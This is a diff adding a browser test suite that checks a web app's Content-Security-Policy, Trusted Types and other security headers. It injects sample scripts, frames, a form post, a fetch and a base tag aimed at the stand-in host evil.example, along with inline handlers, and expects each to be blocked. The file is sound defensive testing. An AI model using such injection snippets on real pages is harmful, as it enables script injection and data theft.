@@ -1,0 +1,211 @@
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { closeBrowser, openWindow, signIn, type Window } from '../support/browser.ts';
+import { ben } from '../support/cast.ts';
+import { startPerch, type TestPerch } from '../support/perch.ts';
+
+let perch: TestPerch;
+let window: Window;
+
+beforeAll(async () => {
+  perch = await startPerch();
+});
+afterAll(async () => {
+  await closeBrowser();
+  await perch.stop();
+});
+
+const policyOf = async (path: string, from = perch): Promise<string> =>
+  (await from.visitor().get(path)).headers['content-security-policy'] ?? '';
+
+describe('in a page of the app a browser stops and reports', () => {
+  beforeAll(async () => {
+    window = await openWindow(perch.url);
+    await signIn(window, ben);
+    await window.page.goto('/help');
+    await window.page.getByRole('heading', { level: 1 }).waitFor();
+    expect(window.complaints).toEqual([]);
+  });
+  // They were wanted, so the window is not asked about them.
+  afterAll(() => window.context.close());
+
+  // As the code of a page would do it; what the test itself evaluates comes from outside and is not held back.
+  test.each<[string, string, RegExp]>([
+    ['text that becomes markup', 'document.body.innerHTML = "<b>x</b>"', /TrustedHTML/],
+    ['text that becomes a frame', 'document.createElement("iframe").srcdoc = "<b>x</b>"', /TrustedHTML/],
+    [
+      'an address that becomes a script',
+      'document.createElement("script").src = "/x.js"',
+      /TrustedScriptURL/,
+    ],
+    ['text that becomes a script', 'document.createElement("script").text = "x"', /TrustedScript/],
+    ['a policy that lets text through', 'trustedTypes.createPolicy("x", {})', /trusted-types/],
+  ])('%s', async (_, code, complaint) => {
+    await expect(window.page.evaluate(code)).rejects.toThrow(/Trusted/i);
+    await complained(complaint);
+  });
+
+  test.each<[string, string, RegExp]>([
+    ['a script of another site', tag('script', 'src', 'https://evil.example/x.js'), /TrustedScript/],
+    [
+      'a script inside the page',
+      'const made = document.createElement("script"); made.append("x()"); document.head.append(made)',
+      /TrustedScript/,
+    ],
+    [
+      'a handler inside an element',
+      'document.body.setAttribute("onclick", "x()")',
+      /script-src|TrustedScript/,
+    ],
+    ['a picture of another site', tag('img', 'src', 'https://evil.example/x.png'), /img-src/],
+    ['a frame of another site', tag('iframe', 'src', 'https://evil.example/'), /frame-src/],
+    [
+      'a form for another site',
+      'const made = document.createElement("form"); made.action = "https://evil.example/"; made.method = "post"; document.body.append(made); made.submit()',
+      /form-action/,
+    ],
+    ['a call to another site', 'void fetch("https://evil.example/").catch(() => {})', /connect-src/],
+    ['a base for all addresses', tag('base', 'href', 'https://evil.example/'), /base-uri/],
+    [
+      'a style inside the page',
+      'const made = document.createElement("style"); made.append("*{}"); document.head.append(made)',
+      /style-src/,
+    ],
+  ])('%s', async (_, code, complaint) => {
+    // A sink may throw besides; either way nothing runs.
+    await window.page.evaluate(code).catch(() => {});
+    await complained(complaint);
+  });
+
+  test('nothing is missed: without the policy the same goes through unheard', async () => {
+    await window.page.route('**/bookings', async (route) => {
+      const response = await route.fetch();
+      await route.fulfill({ response, headers: { ...response.headers(), 'content-security-policy': '' } });
+    });
+    await window.page.goto('/bookings');
+    await window.page.getByRole('heading', { level: 1 }).waitFor();
+    window.complaints.length = 0;
+    await window.page.evaluate('document.createElement("p").innerHTML = "<b>x</b>"');
+    expect(window.complaints).toEqual([]);
+  });
+});
+
+test('on the sign-in page, too, no script runs but ours and Google’s', async () => {
+  window = await openWindow(perch.url);
+  await window.page.goto('/signin');
+  await window.page.getByRole('button', { name: 'Sign in with Google', exact: true }).waitFor();
+  await window.page.evaluate(tag('script', 'src', 'https://evil.example/x.js'));
+  await complained(/script-src/);
+  await window.page.evaluate('document.body.setAttribute("onclick", "globalThis.ran = true")');
+  await window.page.evaluate('document.body.click()');
+  await complained(/script-src/);
+  expect(await window.page.evaluate('globalThis.ran')).toBeUndefined();
+  await window.context.close();
+});
+
+describe('Google’s script may run on the sign-in page alone', () => {
+  let real: TestPerch;
+  beforeAll(async () => {
+    real = await startPerch({
+      GOOGLE_CLIENT_ID: 'ours.apps.googleusercontent.com',
+      GOOGLE_HOSTED_DOMAIN: 'perch.example',
+      SLACK_BOT_TOKEN: 'xoxb-1',
+      SLACK_SIGNING_SECRET: 's'.repeat(32),
+      SLACK_API_URL: 'http://127.0.0.1:9/',
+      MAP: 'off',
+    });
+  });
+  afterAll(() => real.stop());
+
+  test('which says so, and lets it open its window', async () => {
+    const { headers } = await real.visitor().get('/signin?returnUrl=%2F');
+    expect(headers['content-security-policy']).toContain(
+      `script-src 'self' https://accounts.google.com/gsi/client`,
+    );
+    expect(headers['cross-origin-opener-policy']).toBe('same-origin-allow-popups');
+  });
+
+  test.each(['/', '/bookings', '/signin/', '/Signin', '/%73ignin', '/sign-in', '/signin%2f', '/nowhere'])(
+    'and not %s',
+    async (path) => {
+      const { headers } = await real.visitor().get(path);
+      expect(headers['content-security-policy']).not.toContain('google');
+      expect(headers['content-security-policy']).toContain(`require-trusted-types-for 'script'`);
+      expect(headers['cross-origin-opener-policy']).toBe('same-origin');
+    },
+  );
+
+  test('and after signing in the page is another one, without it', async () => {
+    window = await openWindow(perch.url);
+    const { page } = window;
+    await page.goto('/signin');
+    await page.getByRole('button', { name: 'Sign in with Google', exact: true }).click();
+    await page
+      .getByRole('dialog')
+      .getByRole('button', { name: /Ben Okafor/ })
+      .click();
+    await page.getByRole('heading', { level: 1, name: 'Hello, Ben' }).waitFor();
+    expect(await page.evaluate('typeof window.google')).toBe('undefined');
+    await expect(page.evaluate('document.createElement("p").innerHTML = "x"')).rejects.toThrow(/TrustedHTML/);
+    await window.context.close();
+  });
+});
+
+test('what is no page may do nothing at all', async () => {
+  const nothing = `default-src 'none'; base-uri 'none'; frame-ancestors 'none'; form-action 'none'`;
+  const script = /src="(\/assets\/[^"]+\.js)"/.exec((await perch.visitor().get('/')).body)?.[1];
+  const paths = [
+    '/api/session',
+    '/api/nothing',
+    '/api/openapi.json',
+    '/health/live',
+    '/metrics',
+    '/robots.txt',
+  ];
+  for (const path of [...paths, String(script)])
+    expect({ path, policy: await policyOf(path) }).toEqual({ path, policy: nothing });
+});
+
+test.each(['/', '/signin', '/api/docs', '/dev/slack/', '/api/session', '/health/live'])(
+  'no policy of %s lets in what is inline, made up at run time, or framed by others',
+  async (path) => {
+    const policy = await policyOf(path);
+    expect(policy).not.toMatch(/unsafe|\*|blob:|(?<!img-src 'self' )data:|http:/);
+    for (const directive of [`default-src 'none'`, `base-uri 'none'`, `frame-ancestors 'none'`])
+      expect(policy).toContain(directive);
+  },
+);
+
+test('every answer, a refusal too, has the other headers that narrow it', async () => {
+  const secure = await startPerch({ PUBLIC_URL: 'https://perch.company.example' });
+  for (const path of ['/', '/signin', '/api/session', '/api/%zz', '/nowhere', '/api/docs', '/health/ready']) {
+    const { headers } = await secure.visitor().get(path);
+    expect({ path, ...headers }).toMatchObject({
+      path,
+      'x-content-type-options': 'nosniff',
+      'cross-origin-opener-policy': expect.stringMatching(/^same-origin/),
+      'cross-origin-resource-policy': 'same-origin',
+      'referrer-policy': path === '/signin' ? 'strict-origin-when-cross-origin' : 'same-origin',
+      'permissions-policy': expect.stringContaining('camera=(), '),
+      'strict-transport-security': 'max-age=31536000',
+    });
+  }
+  await secure.stop();
+});
+
+test('an address written in another way is answered under the same headers', async () => {
+  const bens = await perch.signedIn(ben);
+  for (const path of ['/api/session', '/%61pi/session', '/ap%69/session?x=1']) {
+    expect(await bens.get(path)).toMatchObject({ status: 200, headers: { 'cache-control': 'no-store' } });
+  }
+});
+
+/** Once the window has complained of it, it begins anew. */
+async function complained(of: RegExp): Promise<void> {
+  await expect.poll(() => window.complaints.join('\n')).toMatch(of);
+  window.complaints.length = 0;
+}
+
+/** Code that brings an element with one attribute into the page. */
+function tag(name: string, attribute: string, value: string): string {
+  return `const made = document.createElement("${name}"); made.setAttribute("${attribute}", "${value}"); document.head.append(made)`;
+}
